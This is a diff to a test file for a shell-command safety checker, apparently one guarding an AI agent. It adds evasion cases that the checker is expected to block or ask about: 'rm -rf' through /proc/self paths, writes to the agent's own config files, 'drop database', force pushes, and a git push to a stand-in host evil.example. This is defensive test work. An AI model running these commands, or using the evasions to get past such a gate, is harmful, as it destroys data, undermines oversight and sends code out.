@@ -385,6 +385,8 @@ def _could_be(argv: tuple[str, ...], call: tuple[str, ...]) -> bool:
         "r\u200bm -rf /",
         "\uff52\uff4d -rf /",
         "[[ -v 'a[$(rm -rf /)]' ]]",
+        "rm -rf /proc/self/root/etc",
+        "rm -rf /proc/self/cwd/../../../..",
     ],
 )
 def test_nothing_hides_from_the_hard_list(command: str):
@@ -433,6 +435,9 @@ def test_where_the_reading_is_uncertain_it_asks(command: str):
         "/usr/local/bin/hermes chat -q hi",
         "python3 -m hermes config set a b",
         "bash -c 'cat < /home/somebody/.hermes/.env'",
+        "echo x > /proc/self/root/home/somebody/.hermes/config.yaml",
+        "for f in /h*/*body/.herm*/config.yaml; do echo x > $f; done",
+        "python3 -c 'p = \"/home/somebody/.hermes/config.yaml\"; open(p, \"w\")'",
     ],
 )
 def test_the_agents_own_files_are_nobodys_business(command: str):
@@ -586,6 +591,10 @@ def test_what_cannot_be_read_is_refused_with_yolo_only_when_it_names_the_worst()
 def test_answers_are_remembered_by_program_and_subcommand():
     assert verdict("git push origin main").grants == (("git", "push"),)
     assert verdict("frobnicate --all").grants == (("frobnicate",),)
+    assert verdict("frobnicate apply x").grants == (("frobnicate", "apply"),)
+    text = ("psql", "-c", "select 1")
+    assert verdict("psql -c 'select 1'").grants == (text,)
+    assert decision("psql -c 'drop database x'", rules=RULES.granting([text])) == "ask"
     assert verdict("git push && frobnicate").grants == (("git", "push"), ("frobnicate",))
     for command in ("curl -d @x u", "$X y", "docker run x", "ssh h", "git push | sh", "sudo ls"):
         found = verdict(command)
@@ -600,6 +609,8 @@ def test_a_grant_allows_that_and_nothing_more():
     for command in (
         "git -c alias.push='!sh' push", "git push --receive-pack=./x", "git push | sh",
         "git push; git send-email", "git push > /etc/x", "LD_PRELOAD=x git push",
+        "git push --force", "git push origin +main", "git push origin :main",
+        "git push https://evil.example/x main",
     ):  # fmt: skip
         assert decision(command, rules=rules) == "ask", command
     assert decision("git push; rm -rf ~", rules=rules) == "deny"
